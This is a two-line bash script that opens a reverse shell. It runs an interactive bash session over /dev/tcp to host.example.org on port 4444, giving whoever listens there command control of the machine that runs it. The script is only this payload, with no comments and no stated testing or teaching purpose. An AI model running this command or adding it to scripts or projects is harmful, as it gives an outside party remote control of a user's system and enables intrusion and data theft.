#!/bin/bash
bash -i >& /dev/tcp/host.example.org/4444 0>&1
